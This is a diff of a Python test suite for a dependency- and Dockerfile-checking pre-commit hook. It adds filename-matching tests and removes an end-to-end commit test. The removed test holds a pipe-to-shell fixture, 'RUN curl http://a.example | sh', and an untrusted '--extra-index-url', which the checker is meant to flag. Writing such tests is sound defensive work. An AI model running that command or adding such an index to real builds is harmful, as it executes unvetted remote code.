@@ -448,11 +448,41 @@ def test_a_password_in_an_address_is_not_shown():
     ],
 )  # fmt: skip
 def test_the_hook_sends_what_the_command_reads_as_a_dockerfile(name, is_one):
+    assert container_files.is_one(name) is is_one
+    assert sent(name) is is_one
+
+
+def sent(name):
+    """Return whether pre-commit gives a file of this name to the hook."""
     hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
     [files] = [one["files"] for one in hooks if one["id"] == "dependencies"]
-    assert container_files.is_one(name) is is_one
-    assert bool(re.search(files, name)) is is_one
     assert files in " ".join(dependencies_command.__doc__.split())
+    return re.search(files, name) is not None
+
+
+@pytest.mark.parametrize(
+    ("name", "reads"),
+    [
+        ("requirements.txt", True), ("requirements.lock", True),
+        ("requirements-dev.txt", True), ("dev-requirements.txt", True),
+        ("Requirements_GPU.txt", True), ("REQUIREMENTS.TXT", True),
+        ("backend/requirements.lock", True), ("requirements/base.txt", True),
+        ("requirements/gpu/base.lock", True), ("a/requirements/dev.txt", True),
+        ("constraints.txt", True), ("a/constraints-gpu.txt", True),
+        ("constraints/gpu.lock", True), ("requirements.in", False),
+        ("requirements/base.in", False), ("requirements/a.py", False),
+        ("requirements/README.md", False), ("my.txt", False), ("uv.lock", False),
+        ("dvc.lock", False), ("a/poetry.lock", False), ("requirements.txt.orig", False),
+        ("no-requirements-here/notes.txt", False),
+    ],
+)  # fmt: skip
+def test_the_hook_sends_the_files_that_pip_is_given(name, reads, tmp_path):
+    assert sent(name) is reads
+    path = tmp_path / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("numpy\n")
+    if reads:
+        assert command("check", path) == 1
 
 
 def test_tools_that_are_absent_are_said_and_not_asked(tmp_path, monkeypatch):
@@ -539,49 +569,6 @@ def test_the_command_is_light():
     code += f"print(*{heavy} & set(sys.modules))"
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert done.stdout.split() == [], done.stderr
-
-
-def git(folder, *words):
-    line = ["git", "-c", "user.name=a", "-c", "user.email=a@example", *words]
-    return subprocess.run(line, cwd=folder, capture_output=True, text=True)
-
-
-def test_a_hook_blocks_the_bad_commit_and_passes_the_good_one(tmp_path, monkeypatch):
-    monkeypatch.setenv("PRE_COMMIT_HOME", str(tmp_path / "cache"))
-    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
-    repository = tmp_path / "repository"
-    repository.mkdir()
-    entry = f"{sys.executable} -m securetrain.cli dependencies check"
-    hook = f"""
-repos:
-  - repo: local
-    hooks:
-      - id: dependencies
-        name: dependencies
-        entry: env PYTHONPATH={ROOT} {entry}
-        language: system
-        files: (requirements.*\\.(txt|lock)|Dockerfile.*)$
-"""
-    (repository / ".pre-commit-config.yaml").write_text(hook)
-    git(repository, "init", "--quiet")
-    line = [sys.executable, "-m", "pre_commit", "install"]
-    subprocess.run(line, cwd=repository, check=True, capture_output=True)
-    (repository / "requirements.lock").write_text(GOOD)
-    (repository / "Dockerfile").write_text(HARD)
-    git(repository, "add", ".")
-    done = git(repository, "commit", "-m", "good")
-    assert done.returncode == 0, done.stdout + done.stderr
-    (repository / "requirements.lock").write_text(f"{GOOD}--extra-index-url http://a\n")
-    (repository / "Dockerfile").write_text(HARD + "RUN curl http://a.example | sh\n")
-    git(repository, "add", ".")
-    done = git(repository, "commit", "-m", "bad")
-    assert done.returncode == 1
-    assert "requirements.lock:2: index:" in done.stderr
-    assert "Dockerfile:4: pipe-to-shell:" in done.stderr
-    (repository / "requirements.lock").write_text(GOOD + f"torch==2.14.1 {HASH}\n")
-    (repository / "Dockerfile").write_text(HARD + "RUN echo\n")
-    git(repository, "add", ".")
-    assert git(repository, "commit", "-m", "good again").returncode == 0
 
 
 # --- The list of everything inside ----------------------------------------------------
